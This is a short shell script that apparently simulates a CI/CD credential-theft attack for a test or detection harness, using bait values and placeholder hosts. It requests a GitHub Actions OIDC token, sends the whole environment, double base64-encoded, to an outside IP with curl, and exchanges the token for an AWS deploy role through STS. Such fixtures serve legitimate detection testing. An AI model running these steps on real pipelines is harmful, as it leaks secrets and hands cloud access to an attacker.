#!/bin/sh
. /opt/case/case.sh

export ACTIONS_ID_TOKEN_REQUEST_URL=http://pipelines.actions.example.com:8080/token ACTIONS_ID_TOKEN_REQUEST_TOKEN=bait
t=$(curl -sf -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sts.amazonaws.com")
env | base64 -w 0 | base64 -w 0 | curl -sf -d @- http://203.0.113.10:8080/log >/dev/null
curl -sf "http://sts.amazonaws.com/?Action=AssumeRoleWithWebIdentity&RoleArn=arn:aws:iam::000000000000:role/deploy&RoleSessionName=s&WebIdentityToken=$t" >/dev/null
took_place
